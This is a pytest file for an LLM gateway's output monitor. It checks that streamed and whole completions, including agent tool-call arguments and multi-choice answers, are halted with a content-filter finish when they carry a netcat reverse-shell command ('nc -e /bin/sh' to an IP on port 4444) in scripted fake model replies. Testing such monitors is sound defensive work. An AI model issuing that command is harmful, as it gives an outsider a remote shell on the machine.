"""Tool-call arguments go through the output monitor as code, and halts are per choice."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest

from redline.audit import AuditDecision
from redline.gateway.scripted_upstream import Script, ScriptedUpstream
from tests.gateway.conftest import REVERSE_SHELL, StartGateway, openai_client
from tests.gateway.sse import stream_events

ASK = [{"role": "user", "content": "Run the test suite and report."}]
SHELL_ARGUMENTS = ('{"command": "nc -e /bi', "n/sh 203.0.113.5 ", '4444"}')
WEATHER_ARGUMENTS = ('{"city": "Pa', 'ris", "unit": ', '"celsius"}')
PROSE = ("The build ", "passed and ", "every test ", "is green.")
SCRIPTS = {
    "agent-shell": Script(("Running it now.",), tool_calls=[("run_shell", SHELL_ARGUMENTS)]),
    "agent-weather": Script((), tool_calls=[("get_weather", WEATHER_ARGUMENTS)]),
    "agent-two-calls": Script(
        (), tool_calls=[("get_weather", WEATHER_ARGUMENTS), ("run_shell", SHELL_ARGUMENTS)]
    ),
    "legacy-shell": Script((), function_call=("run_shell", SHELL_ARGUMENTS)),
    "legacy-weather": Script((), function_call=("get_weather", WEATHER_ARGUMENTS)),
    # n=2: one choice answers in prose, the other writes a reverse shell.
    "second-halts": Script(PROSE, other_choices=[("Sure:\n", "```bash\n", f"{REVERSE_SHELL}\n")]),
    "first-halts": Script(("Sure:\n", "```bash\n", f"{REVERSE_SHELL}\n"), other_choices=[PROSE]),
}


@pytest.fixture
def upstream() -> Iterator[ScriptedUpstream]:
    """A scripted upstream for agents' tool calls and answers with several choices."""
    with ScriptedUpstream(SCRIPTS) as server:
        yield server


def _streamed(
    upstream: ScriptedUpstream, start_gateway: StartGateway, model: str, **settings: Any
) -> tuple[list[Any], dict[int, dict[str, Any]]]:
    """Stream `model`'s answer through a new gateway; its events, and what each choice got."""
    gateway = start_gateway(upstream, **settings)
    with gateway.client() as client:
        events, response = stream_events(client, {"model": model, "messages": ASK})
    assert response.status_code == 200 and events[-1] == "[DONE]"
    return events, _by_choice(events)


def _by_choice(events: list[Any]) -> dict[int, dict[str, Any]]:
    """Per choice: its content, tool-call arguments by call, legacy arguments, finishes."""
    seen: dict[int, dict[str, Any]] = {}
    for event in events:
        if not isinstance(event, dict):
            continue
        for choice in event.get("choices", []):
            state = seen.setdefault(
                choice["index"],
                {"content": "", "calls": {}, "function": "", "finishes": [], "redline": None},
            )
            delta = choice["delta"]
            state["content"] += delta.get("content") or ""
            for call in delta.get("tool_calls") or []:
                entry = state["calls"].setdefault(call["index"], {"name": None, "arguments": ""})
                function = call.get("function") or {}
                entry["name"] = function.get("name") or entry["name"]
                entry["arguments"] += function.get("arguments") or ""
            state["function"] += (delta.get("function_call") or {}).get("arguments") or ""
            if choice.get("finish_reason"):
                state["finishes"].append(choice["finish_reason"])
                state["redline"] = event.get("redline")
    return seen


@pytest.mark.parametrize("model", ["agent-shell", "legacy-shell"])
def test_a_reverse_shell_in_streamed_call_arguments_halts_the_answer(
    upstream: ScriptedUpstream, start_gateway: StartGateway, model: str
) -> None:
    gateway = start_gateway(upstream)
    with gateway.client() as client:
        events, _ = stream_events(client, {"model": model, "messages": ASK})
    (choice,) = _by_choice(events).values()
    assert choice["finishes"] == ["content_filter"]
    assert choice["redline"]["decision"] == "refuse" and choice["redline"]["redlines"]
    assert "nc -e" not in json.dumps(events) and "4444" not in json.dumps(events)
    assert "```" not in json.dumps(events)  # the code fence the monitor reads is never sent
    assert events[-1] == "[DONE]"
    (record,) = gateway.audit_records()
    assert record.decision is AuditDecision.HALT and record.stage == "response"


def test_benign_tool_calls_reach_the_openai_client_exactly(
    upstream: ScriptedUpstream, start_gateway: StartGateway
) -> None:
    gateway = start_gateway(upstream)
    client = openai_client(gateway.url)
    arguments = ""
    names, ids, finishes = [], [], []
    for part in client.chat.completions.create(model="agent-weather", messages=ASK, stream=True):  # type: ignore[arg-type]
        for choice in part.choices:
            for call in choice.delta.tool_calls or []:
                ids += [call.id] if call.id else []
                names += [call.function.name] if call.function and call.function.name else []
                arguments += (call.function.arguments or "") if call.function else ""
            finishes += [choice.finish_reason] if choice.finish_reason else []
    assert arguments == "".join(WEATHER_ARGUMENTS)
    assert json.loads(arguments) == {"city": "Paris", "unit": "celsius"}
    assert names == ["get_weather"] and ids == ["call_0"] and finishes == ["tool_calls"]
    whole = client.chat.completions.create(model="agent-weather", messages=ASK)  # type: ignore[arg-type]
    (call,) = whole.choices[0].message.tool_calls or []
    assert call.function.arguments == "".join(WEATHER_ARGUMENTS)  # type: ignore[union-attr]
    assert whole.choices[0].finish_reason == "tool_calls"


def test_legacy_function_call_passes_when_benign(
    upstream: ScriptedUpstream, start_gateway: StartGateway
) -> None:
    _, choices = _streamed(upstream, start_gateway, "legacy-weather")
    (choice,) = choices.values()
    assert choice["function"] == "".join(WEATHER_ARGUMENTS)
    assert choice["finishes"] == ["function_call"]


def test_the_second_call_halting_stops_the_answer_after_the_first(
    upstream: ScriptedUpstream, start_gateway: StartGateway
) -> None:
    events, choices = _streamed(upstream, start_gateway, "agent-two-calls")
    (choice,) = choices.values()
    assert choice["finishes"] == ["content_filter"]
    assert "nc -e" not in json.dumps(events)


@pytest.mark.parametrize("model", ["agent-shell", "legacy-shell"])
def test_a_whole_completion_with_a_reverse_shell_call_loses_its_calls(
    upstream: ScriptedUpstream, start_gateway: StartGateway, model: str
) -> None:
    gateway = start_gateway(upstream)
    answer = openai_client(gateway.url).chat.completions.create(model=model, messages=ASK)  # type: ignore[arg-type]
    (choice,) = answer.choices
    assert choice.finish_reason == "content_filter"
    assert not choice.message.tool_calls and not choice.message.function_call
    assert choice.model_extra["redline"]["decision"] == "refuse"  # type: ignore[index]
    assert answer.model_extra["redline"]["decision"] == "refuse"  # type: ignore[index]
    assert "nc -e" not in answer.model_dump_json()


@pytest.mark.parametrize(("model", "halting", "going_on"), [
    ("second-halts", 1, 0),
    ("first-halts", 0, 1),
])  # fmt: skip
def test_with_two_choices_a_halt_ends_only_its_own(
    upstream: ScriptedUpstream,
    start_gateway: StartGateway,
    model: str,
    halting: int,
    going_on: int,
) -> None:
    gateway = start_gateway(upstream, output={"holdback_chars": 0})
    with gateway.client() as client:
        events, _ = stream_events(client, {"model": model, "messages": ASK, "n": 2})
    choices = _by_choice(events)
    assert choices[going_on]["content"] == "".join(PROSE)
    assert choices[going_on]["finishes"] == ["stop"]
    assert choices[halting]["finishes"] == ["content_filter"]
    assert choices[halting]["redline"]["decision"] == "refuse"
    assert choices[halting]["content"].startswith("Sure:")
    assert "nc -e" not in json.dumps(events)
    assert events[-1] == "[DONE]"
    (record,) = gateway.audit_records()
    assert record.decision is AuditDecision.HALT


def test_two_choices_through_the_openai_client(
    upstream: ScriptedUpstream, start_gateway: StartGateway
) -> None:
    gateway = start_gateway(upstream, output={"holdback_chars": 0})
    client = openai_client(gateway.url)
    content = {0: "", 1: ""}
    finishes: dict[int, str] = {}
    for part in client.chat.completions.create(
        model="second-halts",
        messages=ASK,  # type: ignore[arg-type]
        stream=True,
        n=2,
    ):
        for choice in part.choices:
            content[choice.index] += choice.delta.content or ""
            if choice.finish_reason:
                finishes[choice.index] = choice.finish_reason
    assert finishes == {0: "stop", 1: "content_filter"}
    assert content[0] == "".join(PROSE) and "nc -e" not in content[1]
    whole = client.chat.completions.create(model="second-halts", messages=ASK, n=2)  # type: ignore[arg-type]
    assert [c.finish_reason for c in whole.choices] == ["stop", "content_filter"]
    assert whole.choices[0].message.content == "".join(PROSE)
    assert "nc -e" not in (whole.choices[1].message.content or "")
